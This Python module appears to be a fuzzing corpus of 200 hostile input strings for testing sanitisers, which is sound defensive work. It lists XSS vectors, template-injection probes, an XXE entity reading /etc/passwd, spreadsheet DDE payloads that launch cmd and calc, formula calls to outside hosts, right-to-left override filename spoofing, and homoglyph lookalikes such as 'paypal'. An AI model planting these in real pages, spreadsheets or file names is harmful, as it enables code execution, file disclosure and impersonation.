"""Texts that somebody types to see them run, calculate, turn round or disappear: 200 of them, in four families."""

SCRIPTS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>", '"><script>alert(1)</script>', "'><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>", "<iframe src='https://example.org'></iframe>",
    "<object data='https://example.org/x.swf'></object>", "<embed src='https://example.org/x'>",
    "<link rel=stylesheet href='https://example.org/x.css'>", "<style>@import 'https://example.org/x.css'</style>",
    "<style>body{display:none}</style>", "<base href='https://example.org/'>",
    "<meta http-equiv=refresh content='0;url=https://example.org'>", "<form action='https://example.org'><input>",
    "{{ 7*7 }}", "{% raw %}", "{{ config }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ ''.__class__.__mro__ }}",
    "<!-- x -->", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&amp;nbsp;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e", "\\x3cscript\\x3e", "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//example.org/x.js></script>",
    "<img src='https://example.org/x.png'>", "<video src='https://example.org/x.mp4'>",
    "<math><mtext></mtext></math>",
    "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<div style='background:url(https://example.org/x)'>x</div>", "url(https://example.org/x)", "file:///etc/passwd",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "BEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT",
    "x\r\nATTACH:https://example.org/x\r\n", "x\\nDESCRIPTION:y",
)  # fmt: skip

_CALCULATED = (
    '=HYPERLINK("https://example.org","x")', "=1+1", "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1,1)", "=SUM(A1:A9)",
    '=WEBSERVICE("https://example.org")', '=IMPORTXML("https://example.org","//a")', "{=1+1}", "=1;2", "=A1&B1",
    '=DDE("cmd","/c calc","x")', "+cmd|'/c calc'!A1", "-cmd|'/c calc'!A1", "@cmd|'/c calc'!A1", "=-1", "==1", "=",
    "+", "-", "@", '="x"', "=NOW()", "=RAND()",
)  # fmt: skip
FORMULAS = (
    *_CALCULATED, *(f"\t{one}" for one in _CALCULATED[:8]), *(f"\r{one}" for one in _CALCULATED[:8]),
    *(f" {one}" for one in _CALCULATED[:4]), *(f"\n{one}" for one in _CALCULATED[:2]),
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", '";=1+1;"', "x;=1+1", '"=1+1"', "'=1+1", "1e5", "0045",
    "1-2", "3/4",
    "_x003D_1+1", "_x000D_", "\ufeff=1+1", "12345678901234567890", "TRUE", "#REF!", "=A1:A2", "=\n1",
)  # fmt: skip

_TURNING = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
BIDI = (
    *(f"ab{one}cd" for one in _TURNING), *(f"{one}gnp.exe" for one in _TURNING), *(f"x{one}" for one in _TURNING),
    "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\ufeffb", "a\u00adb", "\u200b=1+1", "a\u2028b",
    "a\u2029b", "a\x00b",
    "a\x07b", "a\x1b[2Jb",
)  # fmt: skip

HOMOGLYPHS = (
    "\u0410nna", "p\u0430ypal", "\u0440olitiet", "Aalb\u043erg", "J\u00f8rgensen", "J\u043ergensen",
    "\u0391\u03bd\u03b1", "\u217dpr",
    "\uff21\uff41\uff4c\uff42\uff4f\uff52\uff47", "\U0001d400\U0001d41a", "0O0O", "l1lI|", "rn m",
    "a\u0301a\u0301", "\u00e1\u00e1", "e\u0308\u0301\u0302", "\u2044 \u2215 /",
    "\u02bc ' \u2019", "\u2010 - \u2011 \u2212", "\u1e9e\u00df", "\u0131i\u0130I", "\u03c3\u03c2", "\ufb01ne",
    "\u33c2", "\u2460", "\u0661\u0662\u0663",
    "\u3164x", "\u115fx", "\u2800x", "x\uffa0", "\U000e0041tag", "\ue000",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "Zalgo\u0336\u0337\u0338", "\u0338=",
)  # fmt: skip

PAYLOADS = (*SCRIPTS, *FORMULAS, *BIDI, *HOMOGLYPHS)
